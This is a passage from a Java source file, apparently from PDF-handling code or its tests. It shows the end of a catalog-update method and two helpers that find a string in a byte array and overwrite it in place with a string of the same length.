                return c.update().object(c.f.catalogNumber(), Cos.write(catalog)).build();
            });
        }
    }

    // ------------------------------------------------------------------------------------------------
    // Bytes

    private static int indexOf(byte[] haystack, String needle, int from) {
        int at = new String(haystack, StandardCharsets.ISO_8859_1).indexOf(needle, from);
        if (at < 0) {
            throw new IllegalStateException("'" + needle + "' not found after " + from);
        }
        return at;
    }

    /** Overwrites the first {@code from} after {@code start} with {@code to} (same length). */
    private static void patch(byte[] bytes, int start, String from, String to) {
        if (from.length() != to.length()) {
            throw new IllegalArgumentException("a patch must keep the length: " + from + " -> " + to);
        }
        int at = indexOf(bytes, from, start);
        System.arraycopy(Cos.latin1(to), 0, bytes, at, to.length());
    }
}
